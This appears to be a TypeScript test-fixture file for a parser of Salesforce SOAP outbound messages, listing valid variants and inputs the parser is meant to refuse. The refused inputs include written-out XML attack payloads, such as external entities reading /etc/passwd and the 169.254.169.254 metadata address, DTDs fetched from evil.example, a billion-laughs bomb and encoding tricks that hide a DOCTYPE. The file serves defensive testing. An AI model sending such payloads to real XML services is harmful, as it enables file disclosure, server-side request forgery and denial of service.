/* Salesforce's outbound messages as it sends them, and everything that only looks like one. */

const OUTBOUND = "http://soap.sforce.com/2005/09/outbound";
const ENVELOPE = "http://schemas.xmlsoap.org/soap/envelope/";
export const organizationId = "00D5g000004XyZaEAK";

export type Sent = { id: string; type?: string; fields: Record<string, string> };

export function notification({ id, type = "Lead", fields }: Sent, prefix = "sf"): string {
  const inner = Object.entries(fields)
    .map(([name, value]) => `<${prefix}:${name}>${escaped(value)}</${prefix}:${name}>`)
    .join("");
  return `<Notification><Id>${id}</Id><sObject xsi:type="${prefix}:${type}" xmlns:${prefix}="urn:sobject.enterprise.soap.sforce.com">${inner}</sObject></Notification>`;
}

export function envelope(
  notifications: string,
  { organization = organizationId, soap = "soapenv", session = "" } = {},
): string {
  const sessionId = session ? `<SessionId>${session}</SessionId>` : '<SessionId xsi:nil="true"/>';
  return `<?xml version="1.0" encoding="UTF-8"?>
<${soap}:Envelope xmlns:${soap}="${ENVELOPE}" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><${soap}:Body><notifications xmlns="${OUTBOUND}"><OrganizationId>${organization}</OrganizationId><ActionId>04k5g0000008OMkAAM</ActionId>${sessionId}<EnterpriseUrl>https://acme.my.salesforce.example/services/Soap/c/64.0/00D</EnterpriseUrl><PartnerUrl>https://acme.my.salesforce.example/services/Soap/u/64.0/00D</PartnerUrl>${notifications}</notifications></${soap}:Body></${soap}:Envelope>`;
}

const lead: Sent = {
  id: "04l5g00000AbCdEAAV",
  fields: {
    Id: "00Q5g00000LmNoPEAV",
    FirstName: "Ana",
    LastName: "Weber",
    Company: "Northwind Traders",
    Email: "ana@northwind.example",
    SystemModstamp: "2026-03-01T08:30:00.000Z",
  },
};
const one = notification(lead);
const good = envelope(one);
const withType = (declaration: string, body = good) =>
  body.replace("?>", `?>\n<!DOCTYPE Envelope ${declaration}>`);
const withCompany = (inner: string) =>
  good.replace(/<sf:Company>.*?<\/sf:Company>/, `<sf:Company>${inner}</sf:Company>`);

/** The company's name that is read from it, or the reason it is refused for. */
export type XmlCase = {
  what: string;
  body: string | Buffer;
  company?: string | null;
  refused?: RegExp;
};

const read = (
  what: string,
  body: string | Buffer,
  company: string | null = "Northwind Traders",
): XmlCase => {
  return { what, body, company };
};
const refuse = (what: string, body: string | Buffer, refused: RegExp): XmlCase => {
  return { what, body, refused };
};
const notXml = /not (?:well-formed|one XML)/;
const noType = /document type/;
const noMessage = /not a Salesforce outbound message/;
const notUtf8 = /not UTF-8/;

export const corpus: XmlCase[] = [
  read("a message as it is sent", good),
  read("a message with a byte order mark", `\uFEFF${good}`),
  read("a message without a declaration", good.replace(/^<\?xml.*\?>\n/, "")),
  read("another prefix for the envelope", envelope(one, { soap: "SOAP-ENV" })),
  read("another prefix for the record", envelope(notification(lead, "ns1"))),
  read("a prefix for the outbound namespace", prefixed(good, "out")),
  read("single quotes and white space", good.replaceAll('"', "'").replaceAll("><", ">\n  <")),
  read("CRLF line ends", good.replaceAll("><", ">\r\n<")),
  read("a comment", good.replace("<Notification>", "<!-- made up --><Notification>")),
  read("a processing instruction", good.replace("<soapenv:Body>", "<?hint x?><soapenv:Body>")),
  read("CDATA", withCompany("<![CDATA[Weber & Söhne <GmbH>]]>"), "Weber & Söhne <GmbH>"),
  read("CDATA beside text", withCompany("A<![CDATA[ & ]]>B"), "A & B"),
  read(
    "XML's own entities",
    withCompany("Weber &amp; S&#246;hne &lt;GmbH&gt;"),
    "Weber & Söhne <GmbH>",
  ),
  read("a hexadecimal character", withCompany("S&#xF6;hne"), "Söhne"),
  read("an entity inside CDATA", withCompany("<![CDATA[&amp;]]>"), "&amp;"),
  read("an entity of an entity", withCompany("&amp;lt;b&amp;gt;"), "&lt;b&gt;"),
  read("an entity nobody declared", withCompany("&xxe;"), "&xxe;"),
  read("emoji and letters from right to left", withCompany("מסעדת ירושלים 🍋"), "מסעדת ירושלים 🍋"),
  read("an empty company", withCompany(""), null),
  read(
    "a company that is nil",
    good.replace(/<sf:Company>.*?<\/sf:Company>/, '<sf:Company xsi:nil="true"/>'),
    null,
  ),
  read("no company at all", good.replace(/<sf:Company>.*?<\/sf:Company>/, ""), null),
  read(
    "fields nobody knows",
    good.replace("<sf:Company>", "<sf:Nobody__c>x</sf:Nobody__c><sf:Company>"),
  ),
  read("a field inside a field", withCompany("Acme<sf:Deep>x</sf:Deep>"), "Acme"),
  read(
    "mark-up in a text",
    withCompany("&lt;script&gt;alert(1)&lt;/script&gt;"),
    "<script>alert(1)</script>",
  ),
  read(
    "a field called __proto__",
    good.replace("<sf:Company>", "<sf:__proto__>x</sf:__proto__><sf:Company>"),
  ),
  read(
    "a field called constructor",
    good.replace("<sf:Company>", "<sf:constructor>x</sf:constructor><sf:Company>"),
  ),
  read("an organisation of 15 characters", envelope(one, { organization: "00D5g000004XyZa" })),
  read("a session", envelope(one, { session: "00D5g!AQ4AQ.secret" })),
  read(
    "a hundred notifications",
    envelope(
      Array.from({ length: 100 }, (_, i) => notification({ ...lead, id: `04l${i}` })).join(""),
    ),
  ),
  read("the encoding in lower case", good.replace("UTF-8", "utf-8")),
  read("plain ASCII", good.replace("UTF-8", "US-ASCII")),

  refuse("nothing", "", notXml),
  refuse("white space", " \n\t ", notXml),
  refuse("a text", "hello", notXml),
  refuse("JSON", '{"a":1}', notXml),
  refuse("an empty element", "<a/>", noMessage),
  refuse("two elements", `${good.replace(/^<\?xml.*\?>\n/, "")}<a/>`, notXml),
  refuse("a web page", "<!DOCTYPE html><html><body>hi</body></html>", noType),
  refuse(
    "an external entity of a file",
    withType('[<!ENTITY xxe SYSTEM "file:///etc/passwd">]', withCompany("&xxe;")),
    noType,
  ),
  refuse(
    "an external entity of a page",
    withType('[<!ENTITY xxe SYSTEM "http://169.254.169.254/latest">]', withCompany("&xxe;")),
    noType,
  ),
  refuse(
    "a parameter entity",
    withType('[<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]'),
    noType,
  ),
  refuse(
    "a public document type",
    withType('PUBLIC "-//X//Y" "http://evil.example/x.dtd"'),
    noType,
  ),
  refuse("a bare document type", withType(""), noType),
  refuse("a document type in lower case", good.replace("?>", "?><!doctype x>"), noType),
  refuse(
    "a document type in a comment's clothes",
    good.replace("?>", "?><!-- --><!DOCTYPE x>"),
    noType,
  ),
  refuse("an entity without a document type", good.replace("?>", '?><!ENTITY a "b">'), noType),
  refuse("a billion laughs", laughs(), noType),
  refuse(
    "a quadratic blow-up",
    withType(`[<!ENTITY a "${"a".repeat(10_000)}">]`, withCompany("&a;".repeat(1_000))),
    noType,
  ),
  refuse("an end cut off", good.slice(0, -10), notXml),
  refuse("a beginning and no more", good.slice(0, 60), notXml),
  refuse("half of it", good.slice(0, Math.floor(good.length / 2)), notXml),
  refuse(
    "tags that cross",
    good.replace("</sObject></Notification>", "</Notification></sObject>"),
    notXml,
  ),
  refuse("an attribute without quotes", good.replace('xsi:nil="true"', "xsi:nil=true"), notXml),
  refuse("nesting beyond reason", `${"<a>".repeat(5_000)}${"</a>".repeat(5_000)}`, notXml),
  refuse(
    "nesting inside a record",
    withCompany(`${"<b>".repeat(60)}x${"</b>".repeat(60)}`),
    notXml,
  ),
  refuse("UTF-16, little end first", Buffer.from(`\uFEFF${good}`, "utf16le"), notUtf8),
  refuse("UTF-16, big end first", Buffer.from(`\uFEFF${good}`, "utf16le").swap16(), notUtf8),
  refuse("UTF-16 that hides a document type", Buffer.from(withType("[]"), "utf16le"), notUtf8),
  refuse("UTF-7 that hides one", good.replace("UTF-8", "UTF-7"), notUtf8),
  refuse("a Latin letter that is no UTF-8", Buffer.from(withCompany("Söhne"), "latin1"), notUtf8),
  refuse("another declared encoding", good.replace("UTF-8", "ISO-8859-1"), notUtf8),
  refuse("a NUL", good.replace("Northwind", "North\0wind"), notUtf8),
  refuse(
    "another namespace for the envelope",
    good.replaceAll(ENVELOPE, "http://evil.example/"),
    noMessage,
  ),
  refuse(
    "SOAP 1.2",
    good.replaceAll(ENVELOPE, "http://www.w3.org/2003/05/soap-envelope"),
    noMessage,
  ),
  refuse(
    "another namespace for the message",
    good.replaceAll(OUTBOUND, "http://evil.example/"),
    noMessage,
  ),
  refuse("no namespace for the message", good.replace(` xmlns="${OUTBOUND}"`, ""), noMessage),
  refuse("no body", good.replaceAll("soapenv:Body", "soapenv:Head"), noMessage),
  refuse(
    "a fault",
    `<e:Envelope xmlns:e="${ENVELOPE}"><e:Body><e:Fault/></e:Body></e:Envelope>`,
    noMessage,
  ),
  refuse(
    "another organisation",
    envelope(one, { organization: "00D5g000004OTHEREA" }),
    /OrganizationId/,
  ),
  refuse(
    "no organisation",
    good.replace(/<OrganizationId>.*?<\/OrganizationId>/, ""),
    /OrganizationId/,
  ),
  refuse(
    "its own letters in another case",
    envelope(one, { organization: organizationId.toLowerCase() }),
    /OrganizationId/,
  ),
  refuse("no notification", envelope(""), /1 to 100/),
  refuse("101 notifications", envelope(one.repeat(101)), /1 to 100/),
  refuse("a notification without an id", good.replace(/<Id>.*?<\/Id>/, ""), /no Id/),
  refuse(
    "a notification without a record",
    envelope("<Notification><Id>04l1</Id></Notification>"),
    /no Id, or no sObject/,
  ),
  refuse(
    "a record without an id",
    good.replace(/<sf:Id>.*?<\/sf:Id>/, ""),
    /no sObject with an Id/,
  ),
];

function laughs(): string {
  const lines = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
  );
  return withType(`[<!ENTITY l0 "lol">${lines.join("")}]`, withCompany("&l9;"));
}

/** The same message with its own namespace under a prefix. */
function prefixed(message: string, prefix: string): string {
  return message
    .replace(` xmlns="${OUTBOUND}"`, ` xmlns:${prefix}="${OUTBOUND}"`)
    .replaceAll(
      /(<\/?)(notifications|OrganizationId|ActionId|SessionId|EnterpriseUrl|PartnerUrl|Notification|Id|sObject)(?=[\s/>])/g,
      `$1${prefix}:$2`,
    );
}

function escaped(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
}
